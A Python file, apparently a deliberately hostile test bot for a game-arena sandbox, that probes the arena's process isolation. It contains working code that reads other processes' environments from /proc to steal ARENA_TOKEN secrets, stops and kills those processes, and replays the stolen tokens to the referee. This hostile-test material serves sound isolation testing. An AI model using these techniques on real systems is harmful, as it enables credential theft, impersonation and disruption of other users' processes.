"""Hostile: scans /proc for other bots' ARENA_TOKEN, stops them (SIGSTOP), kills their
process groups, and presents each stolen token to the referee before playing its own seat.

Everything it achieved goes to stderr as one ``HOSTILE {json}`` line (the referee keeps the
log). As a safety net for whoever runs it, it only signals processes that carry an
ARENA_TOKEN (bots), never the referee.
"""

from __future__ import annotations

import json
import os
import signal
import sys

import grpc

from arena.protocol._pb.riskarena.v1 import arena_pb2 as pb
from arena.protocol.envelope import PROTOCOL_VERSION
from arena.sdk import Bot

PLAY = "/riskarena.v1.Referee/Play"


def scan() -> tuple[list[int], dict[int, dict[str, str]]]:
    """Every pid visible, and the ARENA_* environment of those whose environ is readable."""
    pids, found = [], {}
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        pids.append(int(name))
        try:
            with open(f"/proc/{name}/environ", "rb") as f:
                raw = f.read()
        except OSError:
            continue
        env = dict(
            item.decode(errors="replace").partition("=")[::2] for item in raw.split(b"\0") if item
        )
        if "ARENA_TOKEN" in env:
            found[int(name)] = env
    return pids, found


def present(address: str, token: str) -> str:
    """The referee's answer to a Hello carrying ``token`` on ``address``."""
    hello = pb.BotMessage(hello=pb.Hello(protocol_version=PROTOCOL_VERSION, token=token, name="x"))
    try:
        with grpc.insecure_channel(address) as channel:
            stream = channel.stream_stream(
                PLAY,
                request_serializer=pb.BotMessage.SerializeToString,
                response_deserializer=pb.RefereeMessage.FromString,
            )
            replies = stream(iter([hello]), timeout=10)
            first = next(replies)
            return "WELCOMED" if first.WhichOneof("message") == "welcome" else "ANSWERED"
    except grpc.RpcError as exc:
        return exc.code().name


def main() -> None:
    pids, victims = scan()
    stopped, killed, hellos = [], [], []
    for pid in victims:
        try:
            os.kill(pid, signal.SIGSTOP)
            stopped.append(pid)
        except OSError:
            pass
        try:
            os.killpg(os.getpgid(pid), signal.SIGKILL)
            killed.append(pid)
        except OSError:
            pass
    own = os.environ["ARENA_ADDRESS"]
    for env in victims.values():
        for address in {own, env.get("ARENA_ADDRESS", own)}:
            hellos.append(present(address, env["ARENA_TOKEN"]))
    report = {
        "uid": os.getuid(),
        "pids_seen": len(pids),
        "tokens": len(victims),
        "stopped": stopped,
        "killed": killed,
        "hellos": hellos,
    }
    print("HOSTILE " + json.dumps(report), file=sys.stderr, flush=True)
    Bot().run()


if __name__ == "__main__":
    main()
